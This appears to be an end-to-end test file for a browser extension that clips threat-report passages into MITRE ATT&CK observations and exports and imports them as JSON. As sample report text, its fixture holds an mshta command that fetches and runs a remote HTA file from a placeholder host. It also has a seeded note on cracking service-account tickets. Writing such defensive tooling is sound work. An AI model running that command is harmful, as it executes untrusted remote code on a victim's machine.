import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { importJson } from '@/utils/exchange/formats/json/read';
import { jsonFileSchema } from '@/utils/exchange/formats/json/schema';
import type { Library } from '@/utils/exchange/library';
import { selectWithMouse } from '../support/selection';
import type { PageServer } from '../support/server';
import type { Session } from '../support/session';
import { chooseLevel, fill, openCard, pickTechnique, readLibrary, save } from './steps/capture';
import {
  chooseImport,
  confirmImport,
  exportButton,
  observationOn,
  openDesk,
  openLibrary,
  reportOn,
  seed,
} from './steps/library';
import { start, startBrowser } from './steps/start';

const BODY = `<p>The lure was a page that asked visitors to prove that they are human.</p>
<pre>mshta  https://update.example/a.hta
  /quiet</pre>
<p>Ünïcode, «quotes», 日本語 and a \u{1F9F2} are part of the report as well.</p>`;

let folder: string;
let server: PageServer;
let session: Session;

/** Sorts reports and observations by id, because neither a file nor the store has a defined order. */
function sorted({ reports, observations }: Library): Library {
  const byId = (a: { id: string }, b: { id: string }) => a.id.localeCompare(b.id);
  return { reports: [...reports].sort(byId), observations: [...observations].sort(byId) };
}

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'ttp-clipper-exchange-'));
  ({ server, session } = await start({
    pages: {
      '/report.html': `<!doctype html><meta charset="utf-8"><title>One of two reports</title>${BODY}`,
    },
  }));
});
afterEach(async () => {
  await server?.close();
  await rm(folder, { recursive: true, force: true });
});

/** Adds an observation of another report to the library. */
async function seedOther(): Promise<void> {
  const other = reportOn('https://research.example/another', { title: 'Another report' });
  const text = 'It asked for tickets of every service account and cracked them elsewhere.';
  const desk = await openDesk(session);
  await seed(desk, {
    reports: [other],
    observations: [observationOn({ report: other, text, exact: 'tickets of every service account' })],
  });
}

it('exports the observations of this page, and all', async () => {
  await seedOther();
  const url = server.url('/report.html');
  const page = await session.newPage(url);
  await selectWithMouse(page, { text: 'asked visitors to prove that they are human' });
  const first = await openCard(session, page);
  await pickTechnique(page, 'T1204.004');
  await fill(page, first, 'Actor', 'Hollow Plover');
  await fill(page, first, 'Note', 'kept <as> "typed" & whole');
  await save(session, page, first);
  await selectWithMouse(page, { text: 'mshta https://update.example/a.hta /quiet' });
  const second = await openCard(session, page);
  await pickTechnique(page, 'T1218.005');
  await chooseLevel(page, second, 'procedure');
  await save(session, page, second);
  const library = sorted(await readLibrary(session));
  expect(library.observations).toHaveLength(3);

  const popup = await session.clickToolbarButton(page);
  const ofPage = await exportButton(popup, 'Export this page');
  const pageFile = await session.download(() => ofPage.press('Enter'));
  const ofAll = await exportButton(popup, 'Export everything');
  const everything = await session.download(() => ofAll.press('Enter'));
  await session.closePopup(popup);

  const inPage = jsonFileSchema.parse(JSON.parse(pageFile.text));
  expect(pageFile.name).toMatch(/^ttps-one-of-two-reports-\d{4}-\d{2}-\d{2}\.json$/);
  expect(inPage.reports.map((report) => report.url)).toEqual([url]);
  expect(inPage.observations.map(({ level, technique }) => [level, technique?.id])).toEqual([
    ['technique', 'T1204.004'],
    ['procedure', 'T1218.005'],
  ]);
  expect(inPage.observations[1]?.procedure).toBe('mshta  https://update.example/a.hta\n  /quiet');

  const inAll = jsonFileSchema.parse(JSON.parse(everything.text));
  expect(everything.name).toMatch(/^ttps-\d{4}-\d{2}-\d{2}\.json$/);
  expect(inAll).toMatchObject({
    format: 'ttp-clipper',
    version: 1.1,
    generator: { name: 'TTP Clipper' },
    attack: [
      { domain: 'enterprise-attack', version: expect.stringMatching(/^\d+\.\d+$/) },
      { domain: 'ics-attack', version: expect.stringMatching(/^\d+\.\d+$/) },
      { domain: 'mobile-attack', version: expect.stringMatching(/^\d+\.\d+$/) },
    ],
  });
  const imported = importJson(everything.text);
  expect(imported.ok && sorted(imported.library)).toEqual(library);
});

it('imports the same library into a fresh installation, and changes nothing the second time', async () => {
  await seedOther();
  const { reports, observations } = await readLibrary(session);
  const library = sorted({ reports, observations });
  const page = await session.newPage(server.url('/report.html'));
  const popup = await session.clickToolbarButton(page);
  const button = await exportButton(popup, 'Export everything');
  const everything = await session.download(() => button.press('Enter'));
  // The previous session deletes its downloads.
  const file = join(folder, everything.name);
  await writeFile(file, everything.text);

  const fresh = await startBrowser();
  expect(sorted(await readLibrary(fresh))).toEqual({ reports: [], observations: [] });
  const importer = await openLibrary(fresh);
  const offered = await chooseImport(importer, file);
  expect(offered).toMatch(/has 1 report and 1 observation/);
  expect(offered).toMatch(/To be imported: 1 observation added, 0 changed, 0 unchanged, 0 kept/);
  expect(sorted(await readLibrary(fresh)).observations).toEqual([]);
  expect(await confirmImport(importer)).toMatch(/1 observation added, 0 changed, 0 unchanged/);
  expect(sorted(await readLibrary(fresh))).toEqual(library);

  expect(await chooseImport(importer, file)).toMatch(/0 observations added, 0 changed, 1 unchanged/);
  expect(await confirmImport(importer)).toMatch(/0 observations added, 0 changed, 1 unchanged/);
  expect(sorted(await readLibrary(fresh))).toEqual(library);
});
